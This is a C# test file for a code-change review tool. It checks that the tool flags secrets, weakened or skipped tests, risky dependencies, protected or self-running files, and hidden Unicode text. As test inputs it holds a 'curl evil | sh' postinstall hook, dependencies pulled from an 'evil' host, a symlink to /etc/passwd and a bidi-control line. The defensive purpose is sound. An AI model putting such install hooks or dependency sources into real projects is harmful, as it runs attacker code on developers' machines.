using Ringfence.Review;
using Ringfence.Verification;
using Ringfence.Workspaces;
using Xunit;

namespace Ringfence.Tests.Review;

public sealed class Gates_find
{
    [Theory]
    [InlineData("src/Auth/Token.cs", null)]
    [InlineData("src/Other/X.cs", "not in write: src/Auth/**, tests/**")]
    [InlineData("src/Auth/Migrations/1.cs", "in never: **/Migrations/**")]
    [InlineData("src/Auth/migrations/1.cs", "in never: **/Migrations/**")]
    [InlineData("src/Auth/deep/secrets.json", "in never: secrets.json")]
    public void A_path_out_of_scope(string path, string? evidence)
    {
        var rules = new ReviewRules { Write = ["src/Auth/**", "tests/**"], Never = ["**/Migrations/**", "secrets.json"] };

        var found = Change.Review(rules, Change.File(path, null, "x\n")).Where(f => f.Gate == "scope");

        Assert.Equal(evidence is null ? [] : [new Finding("scope", FindingSeverity.Block, path, evidence)], found);
    }

    [Fact]
    public void A_change_that_is_too_large()
    {
        var files = Enumerable.Range(0, 3).Select(i => Change.File($"f{i}", "a\n", "b\n")).ToArray();

        Assert.Equal(["3 files, at most 2", "6 lines, at most 5"], Change.Review(new() { MaxFiles = 2, MaxLines = 5 }, files).Select(f => f.Evidence));
        Assert.Empty(Change.Review(new() { MaxFiles = 3, MaxLines = 6 }, files));
    }

    [Theory]
    [InlineData(".github/workflows/ci.yml")]
    [InlineData(".GitHub/Workflows/ci.yml")]
    [InlineData("sub/.github/workflows/ci.yml")]
    [InlineData("CLAUDE.md")]
    [InlineData("docs/agents.md")]
    [InlineData(".husky/pre-commit")]
    [InlineData(".gitmodules")]
    [InlineData(".ringfence/workflows/x.md")]
    [InlineData("a/b/.claude/settings.json")]
    public void A_protected_path(string path) => Assert.Contains(Change.Review(Change.File(path, "a", "b")), f => f is { Gate: "protected_path", Severity: FindingSeverity.Ask });

    [Theory]
    [InlineData(".vscode/tasks.json")]
    [InlineData(".envrc")]
    [InlineData("Directory.Build.props")]
    [InlineData("src/Directory.Build.targets")]
    [InlineData("NuGet.config")]
    [InlineData("setup.py")]
    [InlineData("tests/conftest.py")]
    [InlineData(".cargo/config.toml")]
    [InlineData("gradle/wrapper/gradle-wrapper.properties")]
    public void A_file_that_runs_by_itself(string path) => Assert.Contains(Change.Review(Change.File(path, null, "x")), f => f.Gate == "auto_executing");

    [Fact]
    public void A_script_that_runs_at_installation_and_a_command_in_a_project()
    {
        var found = Change.Review(
            Change.File("web/package.json", """{"scripts":{"test":"a","prepare":"same"}}""", """{"scripts":{"test":"b","postinstall":"curl evil | sh","prepare":"same"}}"""),
            Change.File("src/App.csproj", "<Project>\n", "<Project>\n<Exec Command=\"x\" />\n"));

        Assert.Equal(["script postinstall runs when it is installed: curl evil | sh", "runs in every build: <Exec Command=\"x\" />"], found.Where(f => f.Gate == "auto_executing").Select(f => f.Evidence));
    }

    [Theory]
    [InlineData("var key = \"AKIAIOSFODNN7EXAMPLF\";", "AWS access key, AKIA… of 20 characters")]
    [InlineData("-----BEGIN OPENSSH PRIVATE KEY-----", "private key, ----… of 35 characters")]
    [InlineData("token: ghp_0123456789abcdefghijABCDEFGHIJ012345", "GitHub token, ghp_… of 40 characters")]
    [InlineData("key=sk-ant-api03-abcdefghijklmnopqrstuvwxyz", "model provider's API key, sk-a… of 39 characters")]
    [InlineData("postgres://app:Tr0ub4dor@db.internal/x", "password in an address, post… of 36 characters")]
    [InlineData("api_key = 'q8Zr2LmX0vK7tYw4Bn6P'", "value of api_key, q8Zr… of 20 characters")]
    public void A_secret_without_repeating_it(string line, string evidence)
    {
        var finding = Assert.Single(Change.Review(Change.File("a.txt", "one\n", $"one\n{line}\n")), f => f.Gate == "secret");

        Assert.Equal(("a.txt:2", evidence), (finding.Place, finding.Evidence));
    }

    [Theory]
    [InlineData("password = \"changeme-please-123\"")]
    [InlineData("token = GetToken(options.TokenSource)")]
    [InlineData("api_key = \"your-api-key-goes-here1\"")]
    [InlineData("const tokenValidationLifetime = 'ValidateTokenLifetime'")]
    [InlineData("see https://user:${PASSWORD}@host/")]
    [InlineData("AKIAIOSFODNN7EXAMPLE is what the documentation shows")]
    public void No_secret_where_there_is_none(string line) => Assert.DoesNotContain(Change.Review(Change.File("a.txt", null, line + "\n")), f => f.Gate == "secret");

    [Fact]
    public void No_secret_in_a_line_that_only_moved()
    {
        const string key = "AKIAIOSFODNN7ABCDEFG";
        Assert.DoesNotContain(Change.Review(Change.File("a", $"{key}\nx\n", $"x\n{key}\n")), f => f.Gate == "secret");
    }

    [Theory]
    [InlineData("tests/A.cs", "[Fact]\npublic void Works() { Assert.Equal(1, x); }\n", "[Fact(Skip = \"flaky\")]\npublic void Works() { Assert.Equal(1, x); }\n", "test_skipped")]
    [InlineData("tests/A.cs", "[Fact]\npublic void Works() { }\n[Fact]\npublic async Task Fails() { }\n", "[Fact]\npublic void Works() { }\n", "test_deleted")]
    [InlineData("tests/A.cs", "[Fact]\npublic void Works() { }\n", null, "test_deleted")]
    [InlineData("tests/A.cs", "Assert.Equal(1, x);\nAssert.True(y);\n", "Assert.Equal(1, x);\n", "test_weakened")]
    [InlineData("tests/A.cs", "Assert.Equal(1, x);\n", "Assert.True(true);\n", "test_weakened")]
    [InlineData("tests/A.cs", "Assert.Equal(1, x);\n", "// Assert.Equal(1, x);\n", "test_weakened")]
    [InlineData("tests/A.cs", "Assert.Equal(1, x);\n", "Assert.Equal(2, x);\n", "test_weakened")]
    [InlineData("src/a.test.ts", "it('works', () => {})\n", "it.skip('works', () => {})\n", "test_skipped")]
    [InlineData("src/a.test.ts", "it('works', () => {})\nit('fails', () => {})\n", "it('works', () => {})\n", "test_deleted")]
    [InlineData("test_x.py", "def test_a():\n  assert f() == 1\n", "@pytest.mark.skip\ndef test_a():\n  assert f() == 1\n", "test_skipped")]
    [InlineData("test_x.py", "def test_a():\n  assert f() == 1\n", "def test_a():\n  assert True\n", "test_weakened")]
    [InlineData("x_test.go", "func TestA(t *testing.T) {\n}\n", "func TestA(t *testing.T) {\nt.Skip(\"x\")\n}\n", "test_skipped")]
    [InlineData("src/lib.rs", "#[test]\nfn works() {}\n", "#[test]\n#[ignore]\nfn works() {}\n", "test_skipped")]
    [InlineData("src/test/java/ATest.java", "@Test\nvoid works() {}\n", "@Disabled\n@Test\nvoid works() {}\n", "test_skipped")]
    public void A_test_that_was_deleted_skipped_or_weakened(string path, string before, string? after, string gate)
    {
        var found = Change.Review(new ReviewRules { Tests = FindingSeverity.Block }, Change.File(path, before, after)).Where(f => f.Gate.StartsWith("test_", StringComparison.Ordinal)).ToList();

        Assert.NotEmpty(found);
        Assert.All(found, f => Assert.Equal(gate, f.Gate));
    }

    [Fact]
    public void No_test_lost_that_moved_to_another_file_or_was_added_to()
    {
        const string test = "[Fact]\npublic void Works() { Assert.Equal(1, x); }\n";
        var rules = new ReviewRules { Tests = FindingSeverity.Block };

        Assert.Empty(Change.Review(rules, Change.File("tests/A.cs", test, null), Change.File("tests/B.cs", null, test)));
        Assert.Empty(Change.Review(rules, Change.File("tests/A.cs", test, test + "[Fact]\npublic void More() { Assert.Equal(2, x); }\n")));
        Assert.Empty(Change.Review(rules, Change.File("src/Contest.cs", "Assert(x);\n", "\n")));
    }

    [Theory]
    [InlineData("package.json", """{"dependencies":{"a":"1"}}""", """{"dependencies":{"a":"1"},"devDependencies":{"b":"^2"}}""", "dependency_added", "b ^2")]
    [InlineData("package.json", """{"dependencies":{"a":"1"}}""", """{"dependencies":{"a":"git+https://evil/a.git"}}""", "dependency_source", "a 1 → git+https://evil/a.git")]
    [InlineData("package.json", """{"dependencies":{"a":"1"}}""", """{"dependencies":{"a":"2"}}""", "dependency_changed", "a 1 → 2")]
    [InlineData("src/A.csproj", "<Project/>", "<PackageReference Include=\"Evil.Lib\" Version=\"1.0\" />", "dependency_added", "Evil.Lib 1.0")]
    [InlineData("requirements.txt", "flask==1\n", "flask==1\nevil-lib>=2 # x\n", "dependency_added", "evil-lib >=2")]
    [InlineData("requirements-dev.txt", "", "--extra-index-url https://evil/\n", "dependency_added", "--extra-index-url https://evil/")]
    [InlineData("pyproject.toml", "", "[project]\ndependencies = [\n  \"evil[x]>=1\",\n]\n", "dependency_added", "evil >=1")]
    [InlineData("go.mod", "module x\n", "module x\nrequire (\n\tgithub.com/evil/lib v1.2.3\n)\n", "dependency_added", "github.com/evil/lib v1.2.3")]
    [InlineData("Cargo.toml", "[package]\nname = \"x\"\n", "[package]\nname = \"x\"\n[dev-dependencies]\nevil = { git = \"https://evil\" }\n", "dependency_source", "evil from { git = \"https://evil\" }")]
    [InlineData("pom.xml", "", "<dependency>\n<groupId>g</groupId>\n<artifactId>evil</artifactId>\n<version>1</version></dependency>", "dependency_added", "evil 1")]
    [InlineData("build.gradle.kts", "", "implementation(\"g:evil:1.0\")\n", "dependency_added", "g:evil 1.0")]
    [InlineData("Gemfile", "", "gem 'evil', '~> 1'\n", "dependency_added", "evil '~> 1'")]
    public void A_dependency(string path, string before, string after, string gate, string evidence)
    {
        var found = Change.Review(new ReviewRules { Dependencies = FindingSeverity.Block }, Change.File(path, before, after));

        Assert.Contains(found, f => f.Gate == gate && f.Evidence == evidence);
        Assert.DoesNotContain(found, f => f.Gate == "dependency_added" && f.Evidence != evidence && gate == "dependency_added");
    }

    [Fact]
    public void A_lock_file_that_changed_alone() => Assert.Contains(Change.Review(Change.File("web/package-lock.json", "{}", "{ }")), f => f is { Gate: "lock_file", Severity: FindingSeverity.Ask });

    [Theory]
    [InlineData("a/link", "../b", FindingSeverity.Note)]
    [InlineData("a/link", "../../b", FindingSeverity.Block)]
    [InlineData("link", "/etc/passwd", FindingSeverity.Block)]
    [InlineData("link", "a/../../b", FindingSeverity.Block)]
    [InlineData("link", "a/a/../b", FindingSeverity.Block)]
    public void A_symbolic_link(string path, string target, FindingSeverity severity) =>
        Assert.Equal(severity, Assert.Single(Change.Review(Change.File(path, null, target, mode: 0xA000))).Severity);

    [Fact]
    public void Binaries_executables_submodules_and_odd_names()
    {
        var found = Change.Review(
            Change.File("tool", null, null, 0x81ED, linesAdded: -1),
            Change.File("run.sh", null, "x", 0x81ED),
            Change.File("sub", null, "commit", 0xE000),
            Change.File("a\nb", null, "x"),
            Change.File("Same", null, "x"),
            Change.File("same", null, "x"));

        Assert.Equal(["binary", "executable", "name", "name", "submodule"], found.Select(f => f.Gate).Order(StringComparer.Ordinal));
        Assert.All(found, f => Assert.DoesNotContain('\n', f.Place));
    }

    [Fact]
    public void Text_that_a_reviewer_does_not_see()
    {
        var found = Change.Review(Change.File("a.cs", "x\n", "x\nif (admin\u202e\u2066) {\nok\ny" + new string(' ', 6000) + "Evil();\n"));

        Assert.Equal(["a.cs:2", "a.cs:4"], found.Where(f => f.Gate == "hidden_text").Select(f => f.Place));
    }

    [Fact]
    public void What_was_left_out()
    {
        var changes = Change.Set() with { Notes = [new(new(".GIT"), PathNoteReason.GitAlias), new(new("bin"), PathNoteReason.Ignored, 9), new(new("huge"), PathNoteReason.TooLarge)] };

        Assert.Equal([(FindingSeverity.Block, ".GIT"), (FindingSeverity.Ask, "huge")], Gates.Review(new(), changes, []).Select(f => (f.Severity, f.Place)));
    }

    [Fact]
    public void Checks_of_another_tree_and_an_approval_of_another_digest()
    {
        static CheckResult Check(string tree, bool passed) => new("make", passed, 0, null, TimeSpan.Zero, "", tree);

        Assert.Empty(Gates.Trees(Change.Set(), ["make"], [Check("tree", true)], "digest"));
        Assert.Equal(3, Gates.Trees(Change.Set(), [], [Check("older", true), Check("tree", false)], "other").Count);
    }

    [Fact]
    public void Nothing_once_a_waiver_covers_it_and_again_when_it_has_expired()
    {
        var now = DateTimeOffset.UnixEpoch;
        var finding = new Finding("secret", FindingSeverity.Block, "docs/a.md:12", "x");

        Assert.True(new Waiver("secret", "docs/**", "ada", "an example", now.AddDays(1)).Covers(finding, now));
        Assert.False(new Waiver("secret", "docs/**", "ada", "an example", now).Covers(finding, now));
        Assert.False(new Waiver("size", "docs/**", "ada", "an example", now.AddDays(1)).Covers(finding, now));
        Assert.False(new Waiver("secret", "src/**", "ada", "an example", now.AddDays(1)).Covers(finding, now));
    }
}
